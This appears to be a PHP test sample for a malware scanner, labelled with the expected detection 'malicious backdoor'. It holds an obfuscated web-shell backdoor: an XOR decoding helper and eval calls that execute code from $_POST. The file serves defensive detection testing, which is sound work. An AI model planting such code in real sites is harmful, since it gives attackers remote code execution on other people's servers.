<?php return; // want: malicious backdoor php.code.request
function undo($s, $k) { $o = ''; for ($i = 0; $i < strlen($s); $i++) { $o .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); } return $o; }
eval(undo("\x0e\x13\x02\x07K_1?5:<2\x3eB\x1d\x42\x3cB\x5e", 'kecc'));
eval(undo(undo('eval($_POST[1]);', 'abc'), 'abc'));
